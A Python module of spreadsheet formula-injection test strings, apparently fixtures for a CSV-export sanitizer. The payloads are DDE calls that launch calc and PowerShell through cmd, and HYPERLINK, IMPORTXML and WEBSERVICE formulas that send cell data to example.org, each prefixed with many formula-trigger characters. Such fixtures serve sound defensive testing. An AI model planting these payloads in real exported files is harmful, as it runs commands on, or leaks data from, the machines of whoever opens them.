"""Texts that a spreadsheet would run if it took them for formulas."""

_CALLS = (
    "cmd|' /C calc'!A0",
    "2+5+cmd|'/C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1,"hier")',
    'IMPORTXML("http://example.org";"//a")',
    'WEBSERVICE("http://example.org")',
    "SUM(1+1)*cmd|'/C powershell'!A0",
    'DDE("cmd";"/C calc";"x")',
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\uff1d")
FORMULAS = (*(f"{start}{call}" for call in _CALLS for start in _STARTS), '=1";=2', "-1+1;=3")
